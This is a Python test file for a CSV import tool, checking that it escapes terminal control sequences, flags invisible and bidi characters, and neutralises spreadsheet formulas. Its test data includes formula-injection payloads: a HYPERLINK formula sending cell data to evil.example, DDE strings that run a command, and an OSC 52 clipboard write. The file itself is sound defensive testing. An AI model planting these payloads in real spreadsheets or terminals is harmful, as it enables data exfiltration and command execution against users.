"""Hostile values: terminal escapes, spreadsheet formulas, hidden characters, invented dates (issue 17)."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest
from conftest import field, judge_values, schema_of

import csvprep
from csvprep.cli import main

# A CSI clear-screen, an OSC 52 clipboard write, an OSC retitle, a bidi override and rich markup.
HOSTILE = ("\x1b[2J", "\x1b]52;c;ZXZpbA==\x07", "\x1b]0;pwned\x07", "evil\u202etxt.exe", "[bold]loud[/bold]")


def _write(path: Path, text: str) -> Path:
    path.write_bytes(text.encode("utf-8"))
    return path


def _hostile_csv(tmp_path: Path) -> Path:
    # The header cell is unknown (a file-level message naming it); the cells fail Email's rule.
    header = "Last_Name,Email,Bad\x1b[31mCol"
    rows = [f'"Doe","{v}x",v' for v in HOSTILE]
    return _write(tmp_path / "in.csv", "\n".join([header, *rows]) + "\n")


def _assert_shown_escaped(out: str) -> None:
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b[2J" in out and "\\x1b]52;c;ZXZpbA==\\x07" in out and "\\u202e" in out
    assert "Bad\\x1b[31mCol" in out
    assert "[bold]loud[/bold]" in out  # shown as typed, not read as rich markup


def test_check_table_escapes_every_value(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = _hostile_csv(tmp_path)
    assert main(["check", str(src), "-m", "Contacts"]) == 1
    _assert_shown_escaped(capsys.readouterr().out)


def test_check_table_to_a_file_escapes_too(tmp_path: Path) -> None:
    src, report = _hostile_csv(tmp_path), tmp_path / "report.txt"
    assert main(["check", str(src), "-m", "Contacts", "--output", str(report)]) == 1
    _assert_shown_escaped(report.read_text(encoding="utf-8"))


def test_pack_summary_escapes_file_level_messages(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = _hostile_csv(tmp_path)
    assert main(["pack", str(src), "-m", "Contacts", "--out", str(tmp_path / "out")]) == 1
    out = capsys.readouterr().out
    assert "\x1b" not in out and "Bad\\x1b[31mCol" in out


def test_error_line_escapes_the_value(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["check", str(tmp_path / "no\x1b]0;x\x07such.csv"), "-m", "Contacts"]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "no\\x1b]0;x\\x07such.csv" in err


def test_machine_formats_keep_the_exact_value(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = _hostile_csv(tmp_path)
    assert main(["check", str(src), "-m", "Contacts", "-f", "json"]) == 1
    issues = json.loads(capsys.readouterr().out)["issues"]
    assert {i["value"] for i in issues if i["column"] == "Email"} >= {f"{v}x" for v in HOSTILE}
    assert any(i["column"] == "Bad\x1b[31mCol" for i in issues)


# --- case 19: blank-looking mandatory values, hidden controls, headers with hidden characters -----------

MANDATORY = field("Last_Name", "text", system_mandatory=True, length=80)


@pytest.mark.parametrize(
    ("value", "code"),
    [
        ("", "required-empty"),
        ("   ", "required-empty"),
        ("\xa0", "required-empty"),  # NBSP
        ("\u200b", "required-empty"),  # zero-width space
        (" \u3000\u2009\u200d ", "required-empty"),  # ideographic and thin spaces, a joiner
        ("\ufeff", "control-character"),  # a BOM is a control character wherever it stands
        (" x", None),  # leading whitespace around a value is still a value
        ("Ø", None),
        ("\xa0Doe", None),
    ],
)
def test_mandatory_value_of_only_invisible_characters_is_empty(value: str, code: str | None) -> None:
    assert judge_values(MANDATORY, [value, "Doe"]) == [code, None]


@pytest.mark.parametrize(
    ("value", "char"),
    [
        ("a\x85b", "U+0085"),  # NEL, a C1 control
        ("a\x9bb", "U+009B"),  # the C1 CSI
        ("\x80", "U+0080"),
        ("evil\u202etxt", "U+202E"),  # right-to-left override
        ("a\u202ab", "U+202A"),
        ("a\u2066b\u2069", "U+2066"),  # isolates
        ("Jo\ufeffhn", "U+FEFF"),  # a BOM inside a value
        ("a\x1bb", "U+001B"),  # C0 as before
    ],
)
def test_c1_bidi_and_bom_are_control_characters(value: str, char: str) -> None:
    f = field("Description", "textarea", length=32000)
    report = csvprep.check(
        pd.DataFrame({"Description": [value, "ok é € ‘quote’ ©"]}, dtype="str"), schema=schema_of(f)
    )
    assert [(i.row, i.code) for i in report.issues] == [(2, "control-character")]
    assert char in report.issues[0].message


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("Email\u200b", "column 'Email\\u200b' is not a field of Contacts; it holds U+200B ZERO WIDTH SPACE"),
        ("\u0415mail", "'Е' (position 1) is U+0415 CYRILLIC CAPITAL LETTER IE, not a Latin letter"),
        (
            "Email ",
            "column 'Email ' is not a field of Contacts; it has a trailing space: did you mean 'Email'?",
        ),
        (
            "E\u202email",
            "column 'E\\u202email' is not a field of Contacts; it holds U+202E RIGHT-TO-LEFT OVERRIDE",
        ),
    ],
)
def test_headers_with_hidden_characters_say_so(header: str, expected: str) -> None:
    df = pd.DataFrame({"Last_Name": ["Doe"], header: ["jane@example.com"]}, dtype="str")
    [issue] = [i for i in csvprep.check(df, module="Contacts").issues if i.code == "unknown-column"]
    assert issue.column == header  # the machine field keeps the exact header
    assert expected in issue.message and "label" not in issue.message
    assert issue.message.endswith("did you mean 'Email'?")


# --- case 8: cells a spreadsheet would run as a formula ------------------------------------------------

FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "- first item",
)
DATA = ("-5", "-1,234.50", "+91 98765 43210", "(555) 123-4567", "a=b", "plain", "", "'quoted", "-", "+")


@pytest.mark.parametrize(
    ("f", "value", "code"),
    [
        *[(field("Description", "textarea", length=32000), v, "formula-like") for v in FORMULAS],
        *[(field("Description", "textarea", length=32000), v, None) for v in DATA],
        (field("Title", "text", length=100), "=1+1", "formula-like"),
        (field("Phone", "phone"), "+919876543210", None),  # the phone's own rule takes the '+'
        (field("Phone", "phone"), "=1+1", "invalid-phone"),
        (field("Amount", "integer"), "-5", None),  # a negative number is data
        (field("Lead_Source", "picklist", pick_list_values=[{"display_value": "-None-"}]), "-None-", None),
        (
            field("Lead_Source", "picklist", pick_list_values=[{"display_value": "-None-"}]),
            "=evil()",
            "formula-like",
        ),
        (field("Tags", "multiselectpicklist"), "@x;y", "formula-like"),
    ],
)
def test_formula_like_warns_on_text_fields_only(f: dict[str, object], value: str, code: str | None) -> None:
    assert judge_values(f, [value, ""]) == [code, None]


def test_formula_like_on_a_lookup_by_name() -> None:
    f = field("Account_Name", "lookup", lookup={"module": {"api_name": "Accounts"}})
    assert judge_values(f, ["=1+1", "Zylker"], header="Account_Name.Account_Name") == ["formula-like", None]


def _zip_rows(out: Path) -> list[list[str]]:
    import csv
    import io
    import zipfile

    rows: list[list[str]] = []
    for z in sorted(out.glob("*.zip")):
        with zipfile.ZipFile(z) as zf:
            [name] = zf.namelist()
            rows += list(csv.reader(io.StringIO(zf.read(name).decode("utf-8"), newline="")))[1:]
    return rows


def test_rejects_neutralise_formulas_and_pack_restores_them(tmp_path: Path) -> None:
    values = [*FORMULAS, "'=already quoted", "''@twice", "'plain", "-5", "'"]
    lines = ["Last_Name,Email,Description"]
    for n, v in enumerate(values):
        cell = '"' + v.replace('"', '""') + '"'
        lines.append(f"Doe{n},not-an-email,{cell}")  # every row has an error: all go to rejects.csv
    src = _write(tmp_path / "in.csv", "\r\n".join(lines) + "\r\n")
    first = tmp_path / "first"
    assert csvprep.pack(src, first, module="Contacts").totals.rows_rejected == len(values)
    rejects = (first / "rejects.csv").read_text(encoding="utf-8")
    import csv
    import io

    table = list(csv.DictReader(io.StringIO(rejects, newline="")))
    shown = [r["Description"] for r in table]
    quoted = [*FORMULAS, "'=already quoted", "''@twice"]  # a formula, maybe after quotes: one quote more
    assert shown == [("'" + v if v in quoted else v) for v in values]

    # The person fixes the emails and packs rejects.csv again, quotes and all.
    fixed = tmp_path / "fixed.csv"
    fixed.write_text(rejects.replace("not-an-email", "jane@example.com"), encoding="utf-8", newline="")
    second = tmp_path / "second"
    result = csvprep.pack(fixed, second, module="Contacts")
    assert result.totals.rows_rejected == 0
    assert [r[-1] for r in _zip_rows(second)] == values  # byte for byte the original cells
    again = csvprep.check(fixed, module="Contacts")
    assert {i.value for i in again.issues if i.code == "formula-like"} == set(FORMULAS)


def test_zips_keep_formula_values_as_they_are(tmp_path: Path) -> None:
    src = _write(tmp_path / "in.csv", 'Last_Name,Description\nDoe,"=1+1"\n')
    result = csvprep.pack(src, tmp_path / "out", module="Contacts")
    assert result.totals.rows_packed == 1 and result.report.summary.warnings == 1
    assert _zip_rows(tmp_path / "out") == [["Doe", "=1+1"]]


# --- case 20: date hints from the value alone; xlsx formulas without a saved result -------------------


@pytest.mark.parametrize(
    ("value", "hint"),
    [
        ("-1", None),  # was "looks like" today's month
        ("10:30:00", None),  # was today's date
        ("March 2019", None),  # no day: any day would be invented
        ("31 March", None),  # no year
        ("28 Feb 2019", "this looks like 2019-02-28"),
        ("2019/02/28", "this looks like 2019-02-28"),
        ("12/31/2019", "this looks like 2019-12-31"),
    ],
)
def test_date_hints_invent_no_date_part(value: str, hint: str | None) -> None:
    f = field("Date_of_Birth", "date")
    report = csvprep.check(pd.DataFrame({"Date_of_Birth": [value]}, dtype="str"), schema=schema_of(f))
    [issue] = report.issues
    assert issue.code == "invalid-date"
    if hint is None:
        assert "looks like" not in issue.message and "ambiguous" not in issue.message
    else:
        assert hint in issue.message


def test_xlsx_formula_cells_without_a_saved_result_are_named(tmp_path: Path) -> None:
    import openpyxl  # writes formulas without their results, as some exporters do

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Contacts & co"
    ws.append(["Last_Name", "Description"])
    ws.append(["Doe", '=A2&"x"'])
    ws.append(["Roe", "plain"])
    ws.append(["=UPPER(B3)", "=1+1"])
    wb.save(tmp_path / "book.xlsx")
    report = csvprep.check(tmp_path / "book.xlsx", module="Contacts")
    [note] = [n for n in report.summary.source["notes"] if "formula" in n]
    assert "3 formula cells" in note and "B2, A4, B4" in note
    # A workbook whose formulas were saved with their results gets no such note.
    wb2 = openpyxl.Workbook()
    wb2.active.append(["Last_Name", "Description"])
    wb2.active.append(["Doe", "plain"])
    wb2.save(tmp_path / "plain.xlsx")
    assert not [
        n
        for n in csvprep.check(tmp_path / "plain.xlsx", module="Contacts").summary.source["notes"]
        if "formula" in n
    ]
